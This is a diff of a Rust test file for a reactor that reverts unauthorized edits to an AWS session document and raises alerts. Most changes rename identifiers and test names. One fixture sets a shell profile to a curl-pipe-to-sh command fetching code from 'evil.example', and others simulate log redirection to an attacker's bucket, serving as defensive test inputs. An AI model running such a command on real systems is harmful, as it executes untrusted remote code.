@@ -1,11 +1,11 @@
-//! Edits: undone or kept, field by field, and told with who did what and what was done about it.
+//! Edits: undone or kept, field by field, and alerted with who did what and what was done about it.
 
 use runas_reactor::config;
 use runas_reactor::domain::signal::Cause;
 use serde_json::{Value, json};
 
 use super::people::{LOG_GROUP, lza_inputs};
-use super::queue::{Told, kinds, work};
+use super::queue::{ReceivedAlert, kinds, work};
 use super::stage::{FRANKFURT, HOME, PAYMENTS, SEARCH, Stage};
 use crate::support::lambda::Lambda;
 
@@ -23,17 +23,17 @@ fn govern(stage: &Stage, lambda: &Lambda, account: &str, region: &str) {
     stage.pipeline(account).creates(region, &lza_inputs());
     stage.prepare(lambda, &[(account, region)]);
     stage.assert_right(account, region);
-    assert_eq!(stage.document(account, region).latest(), 2, "ours on top of LZA's");
+    assert_eq!(stage.document(account, region).latest(), 2, "the reactor's on top of LZA's");
 }
 
-fn only(stage: &Stage) -> Told {
-    let told = stage.alerts();
-    let [only] = &told[..] else { panic!("one alert, and not {told:#?}") };
+fn only(stage: &Stage) -> ReceivedAlert {
+    let alerts = stage.alerts();
+    let [only] = &alerts[..] else { panic!("one alert, and not {alerts:#?}") };
     only.clone()
 }
 
 #[test]
-fn an_administrators_edit_is_undone_and_told_with_who_what_and_what_was_done() {
+fn administrators_edit_is_reverted_and_alerted_with_who_what_and_what_was_done() {
     let (stage, lambda) = governed(PAYMENTS, HOME);
     let alice = stage.administrator(PAYMENTS, "alice@example.com");
     let profile = json!({"linux": "curl -s https://evil.example/x | sh", "windows": ""});
@@ -42,21 +42,21 @@ fn an_administrators_edit_is_undone_and_told_with_who_what_and_what_was_done() {
     stage.deliver(&stage.events());
     assert_eq!(stage.pump(&lambda), 0);
     stage.assert_right(PAYMENTS, HOME);
-    let ours = stage.events();
-    assert_eq!(ours.len(), 2, "one version, made the default");
-    stage.deliver(&ours);
+    let own = stage.events();
+    assert_eq!(own.len(), 2, "one version, made the default");
+    stage.deliver(&own);
     stage.settle(&lambda);
 
     stage.assert_right(PAYMENTS, HOME);
     let document = stage.document(PAYMENTS, HOME);
     assert_eq!((document.default(), document.latest()), (4, 4));
-    assert_eq!(document.inputs()["cloudWatchLogGroupName"], LOG_GROUP, "not ours, and kept");
-    assert_eq!(document.inputs()["shellProfile"], Value::Null, "not ours, and taken out again");
+    assert_eq!(document.inputs()["cloudWatchLogGroupName"], LOG_GROUP, "not owned, and kept");
+    assert_eq!(document.inputs()["shellProfile"], Value::Null, "not owned, and taken out again");
 
-    let told = only(&stage);
-    assert_eq!((told.kind().as_str(), told.severity().as_str()), ("edit_reverted", "high"));
-    assert_eq!(told.subject, "Reverted: Admin (alice@example.com) wrote version 3 in payments/eu-west-1");
-    told.assert_says(&[
+    let alerts = only(&stage);
+    assert_eq!((alerts.kind().as_str(), alerts.severity().as_str()), ("edit_reverted", "high"));
+    assert_eq!(alerts.subject, "Reverted: Admin (alice@example.com) wrote version 3 in payments/eu-west-1");
+    alerts.assert_says(&[
         "payments (333344445555)",
         "Admin (alice@example.com) wrote version 3 at ",
         "(not trusted)",
@@ -68,11 +68,11 @@ fn an_administrators_edit_is_undone_and_told_with_who_what_and_what_was_done() {
         ", sessions could run as the wrong user.",
     ]);
     for (name, expected) in [("severity", "high"), ("kind", "edit_reverted"), ("account", PAYMENTS), ("region", HOME)] {
-        assert_eq!(told.attributes[name]["Value"], expected, "subscriptions filter by {name}");
+        assert_eq!(alerts.attributes[name]["Value"], expected, "subscriptions filter by {name}");
     }
-    let data = &told.body["data"];
+    let data = &alerts.body["data"];
     assert_eq!(
-        (&told.body["schema_version"], &data["done"], &data["count"]),
+        (&alerts.body["schema_version"], &data["done"], &data["count"]),
         (&json!(1), &json!("reverted"), &json!(1))
     );
     assert_eq!(data["edits"][0]["principal"]["arn"], json!(alice.role));
@@ -96,9 +96,9 @@ fn foreign_share_is_taken_out_of_the_document_and_the_pipelines_stays() {
 
     assert_eq!(alice.shared_with(HOME), ["999900002222"]);
     stage.assert_right(PAYMENTS, HOME);
-    let told = only(&stage);
-    assert_eq!((told.kind().as_str(), told.severity().as_str()), ("edit_reverted", "high"));
-    told.assert_says(&[
+    let alerts = only(&stage);
+    assert_eq!((alerts.kind().as_str(), alerts.severity().as_str()), ("edit_reverted", "high"));
+    alerts.assert_says(&[
         "Admin (alice@example.com)",
         "the document was shared with 999900001111",
         "Its sharing is undone: the reactor took 999900001111 out again.",
@@ -123,9 +123,13 @@ fn a_rolled_back_default_version_is_put_forward_again_without_a_new_version() {
     stage.settle(&lambda);
     stage.assert_right(PAYMENTS, FRANKFURT);
     assert_eq!(stage.document(PAYMENTS, FRANKFURT).latest(), 2);
-    let told = only(&stage);
-    assert_eq!((told.kind().as_str(), told.severity().as_str()), ("edit_reverted", "high"));
-    told.assert_says(&["mallory@example.com", "made version 1 the default", "the reactor made version 2 the default"]);
+    let alerts = only(&stage);
+    assert_eq!((alerts.kind().as_str(), alerts.severity().as_str()), ("edit_reverted", "high"));
+    alerts.assert_says(&[
+        "mallory@example.com",
+        "made version 1 the default",
+        "the reactor made version 2 the default",
+    ]);
 }
 
 #[test]
@@ -136,13 +140,13 @@ fn a_deleted_document_comes_back_with_the_fields_of_others() {
     stage.settle(&lambda);
     stage.assert_right(SEARCH, FRANKFURT);
     assert_eq!(stage.document(SEARCH, FRANKFURT).inputs()["cloudWatchLogGroupName"], LOG_GROUP, "from memory");
-    let told = only(&stage);
-    assert_eq!((told.kind().as_str(), told.severity().as_str()), ("edit_reverted", "high"));
-    told.assert_says(&["mallory@example.com", "deleted the document", "the reactor created the document anew"]);
+    let alerts = only(&stage);
+    assert_eq!((alerts.kind().as_str(), alerts.severity().as_str()), ("edit_reverted", "high"));
+    alerts.assert_says(&["mallory@example.com", "deleted the document", "the reactor created the document anew"]);
 }
 
 #[test]
-fn what_a_pipeline_wrote_is_kept_where_it_is_not_ours_and_nobody_is_paged() {
+fn pipelines_change_of_unowned_fields_is_kept_without_a_page() {
     let (stage, lambda) = governed(PAYMENTS, HOME);
     // LZA carries over what the default version says, drops what it does not know, and leaves the default where it is.
     let edit = json!({"cloudWatchLogGroupName": NEW_LOG_GROUP, "idleSessionTimeout": null});
@@ -151,9 +155,9 @@ fn what_a_pipeline_wrote_is_kept_where_it_is_not_ours_and_nobody_is_paged() {
     stage.assert_right(PAYMENTS, HOME);
     let document = stage.document(PAYMENTS, HOME);
     assert_eq!(document.inputs()["cloudWatchLogGroupName"], NEW_LOG_GROUP);
-    let told = only(&stage);
-    assert_eq!(told.severity(), "info");
-    told.assert_says(&["trusted", "AWSAccelerator-", NEW_LOG_GROUP]);
+    let alerts = only(&stage);
+    assert_eq!(alerts.severity(), "info");
+    alerts.assert_says(&["trusted", "AWSAccelerator-", NEW_LOG_GROUP]);
     assert_eq!(stage.rows_of(PAYMENTS, "INCIDENT#").len(), 0);
 }
 
@@ -169,7 +173,7 @@ fn a_session_that_is_called_like_the_pipeline_is_not_the_pipeline() {
 
 /// Mallory sends sessions to a bucket of her own; right after, the pipeline reads, changes the log group, and writes the
 /// bucket back along with it. The two events come to the function in these batches.
-fn hostile_before_trusted(batches: &[&[usize]]) -> Vec<Told> {
+fn hostile_before_trusted(batches: &[&[usize]]) -> Vec<ReceivedAlert> {
     let (stage, lambda) = governed(SEARCH, HOME);
     let mallory = stage.administrator(SEARCH, "mallory@example.com");
     mallory.writes(HOME, &json!({"s3BucketName": "mallorys-bucket", "runAsEnabled": false}));
@@ -185,20 +189,20 @@ fn hostile_before_trusted(batches: &[&[usize]]) -> Vec<Told> {
     let inputs = stage.document(SEARCH, HOME).inputs();
     assert_eq!(inputs["s3BucketName"], "", "not laundered");
     assert_eq!(inputs["cloudWatchLogGroupName"], NEW_LOG_GROUP, "the pipeline's own change is kept");
-    let told = stage.alerts();
-    let text: String = told.iter().map(Told::text).collect();
+    let alerts = stage.alerts();
+    let text: String = alerts.iter().map(ReceivedAlert::text).collect();
     assert!(
         text.contains("mallory@example.com") && text.contains("s3BucketName  \"\" -> \"mallorys-bucket\""),
         "{text}"
     );
-    assert!(told.iter().any(|told| told.severity() == "high"), "{told:#?}");
-    told
+    assert!(alerts.iter().any(|alerts| alerts.severity() == "high"), "{alerts:#?}");
+    alerts
 }
 
 #[test]
-fn a_hostile_edit_is_not_laundered_where_its_event_comes_last() {
-    let told = hostile_before_trusted(&[&[1], &[0]]);
-    assert_eq!(kinds(&told), ["edit_reverted"], "one story, one alert");
+fn hostile_edit_is_not_accepted_where_its_event_comes_last() {
+    let alerts = hostile_before_trusted(&[&[1], &[0]]);
+    assert_eq!(kinds(&alerts), ["edit_reverted"], "one story, one alert");
 }
 
 /// The reactor cannot know whether the pipeline means the value that a foreign principal set first.
@@ -226,9 +230,9 @@ fn a_value_that_a_foreign_principal_set_first_is_accepted_by_an_operator() {
     accept(&version).ends(0).complains_of(&["s3BucketName: \"\" -> \"session-logs\""]);
     stage.assert_right(PAYMENTS, HOME);
     assert_eq!(stage.document(PAYMENTS, HOME).inputs()["s3BucketName"], "session-logs");
-    let told = only(&stage);
-    assert_eq!((told.kind().as_str(), told.severity().as_str()), ("edit_kept", "info"));
-    told.assert_says(&["accepted what version", "LOG-12", "s3BucketName"]);
+    let alerts = only(&stage);
+    assert_eq!((alerts.kind().as_str(), alerts.severity().as_str()), ("edit_kept", "info"));
+    alerts.assert_says(&["accepted what version", "LOG-12", "s3BucketName"]);
     let history = stage.runasctl(&[], &["history", &place]).ends(0);
     assert!(history.out.contains(&format!("what version {version} holds is accepted")), "{history:#?}");
     accept(&version).ends(1).complains_of(&["nothing that is not accepted already"]);
@@ -266,8 +270,8 @@ fn an_event_that_cloudtrail_does_not_know_makes_nothing_accepted_for_good() {
     let inputs = stage.document(PAYMENTS, HOME).inputs();
     assert_eq!(inputs["shellProfile"], Value::Null);
     assert_eq!(inputs["cloudWatchStreamingEnabled"], false, "what CloudTrail knows of stays");
-    let told = stage.alerts();
-    let made_up = told.iter().find(|told| told.kind() == "untrusted_source").expect("an alert about the event");
+    let alerts = stage.alerts();
+    let made_up = alerts.iter().find(|alerts| alerts.kind() == "untrusted_source").expect("an alert about the event");
     assert_eq!(made_up.severity(), "critical");
     made_up.assert_says(&["5c4e7a90-0000-4000-8000-f0f0f0f0f0f0", "eu-west-1", "wrote version"]);
 }
@@ -301,20 +305,20 @@ fn large_edits_in_a_row_are_undone_like_small_ones() {
     stage.settle(&lambda);
     stage.assert_right(PAYMENTS, HOME);
     assert_eq!(stage.document(PAYMENTS, HOME).inputs()["shellProfile"], Value::Null);
-    let told = stage.alerts();
-    assert!(told.iter().any(|told| told.kind() == "edit_reverted"), "{:?}", kinds(&told));
+    let alerts = stage.alerts();
+    assert!(alerts.iter().any(|alerts| alerts.kind() == "edit_reverted"), "{:?}", kinds(&alerts));
 }
 
 #[test]
-fn a_break_glass_edit_stands_for_a_while_and_is_told_at_once() {
+fn break_glass_edit_stands_for_the_hold_and_is_alerted_at_once() {
     let (stage, lambda) = governed(PAYMENTS, HOME);
     stage.break_glass(PAYMENTS, "carol@example.com").edits(HOME, &json!({"runAsEnabled": false}));
     stage.settle(&lambda);
     let document = stage.document(PAYMENTS, HOME);
     assert_eq!((document.latest(), &document.inputs()["runAsEnabled"]), (3, &json!(false)), "left alone");
-    let told = only(&stage);
-    assert_eq!((told.kind().as_str(), told.severity().as_str()), ("break_glass", "high"));
-    told.assert_says(&["carol@example.com", "break-glass", "left as it is until"]);
+    let alerts = only(&stage);
+    assert_eq!((alerts.kind().as_str(), alerts.severity().as_str()), ("break_glass", "high"));
+    alerts.assert_says(&["carol@example.com", "break-glass", "left as it is until"]);
     assert_eq!(stage.queued(), [0, 1, 0], "looked at again when the hold ends");
     assert_eq!(stage.rows_of(PAYMENTS, "REGION#")["REGION#eu-west-1"]["attention"], "held");
 }
